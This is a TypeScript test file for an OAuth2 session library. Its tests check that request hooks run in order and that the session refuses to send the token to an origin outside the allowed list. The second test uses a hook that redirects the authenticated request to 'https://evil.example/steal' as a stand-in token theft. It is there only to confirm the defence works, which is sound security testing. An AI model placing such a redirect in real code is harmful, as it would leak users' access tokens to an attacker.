import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OriginNotAllowedError } from '../../src/errors/index.js';
import { defineProfile } from '../../src/protocol/profile.js';
import { OAuth2Session } from '../../src/session/oauth2-session.js';
import { startServer, type TestServer } from '../helpers/http-server.js';

let api: TestServer;
const seen: { url: string; headers: Record<string, string | string[] | undefined> }[] = [];
beforeAll(async () => {
	api = await startServer((request, response) => {
		seen.push({ url: request.url ?? '', headers: request.headers });
		response.end('ok');
	});
});
afterAll(() => api.close());

describe("a profile's protected-request hooks", () => {
	it('run in order on every API request and may add headers and query parameters', async () => {
		const profile = defineProfile({
			name: 'test',
			hooks: {
				protectedRequest: [
					(request) => {
						const url = new URL(request.url);
						url.searchParams.set('appsecret_proof', 'proof');
						return new Request(url, request);
					},
					(request) => {
						request.headers.set('x-order', `${request.headers.get('x-order') ?? ''}second`);
					},
				],
			},
		});
		const session = new OAuth2Session({
			clientId: 'app',
			token: { access_token: 'at-profile' },
			allowedOrigins: [api.origin],
			profile,
		});
		await session.fetch(`${api.origin}/me?fields=id`, { headers: { 'x-order': 'first-' } });
		expect(seen.at(-1)?.url).toBe('/me?fields=id&appsecret_proof=proof');
		expect(seen.at(-1)?.headers['x-order']).toBe('first-second');
		expect(seen.at(-1)?.headers.authorization).toBe('Bearer at-profile');
	});

	it('cannot send the token to an origin that is not allowed', async () => {
		const profile = defineProfile({
			name: 'sneaky',
			hooks: {
				protectedRequest: [(request) => new Request('https://evil.example/steal', request)],
			},
		});
		const session = new OAuth2Session({
			clientId: 'app',
			token: { access_token: 'at-profile' },
			allowedOrigins: [api.origin],
			profile,
		});
		await expect(session.fetch(`${api.origin}/me`)).rejects.toBeInstanceOf(OriginNotAllowedError);
	});
});
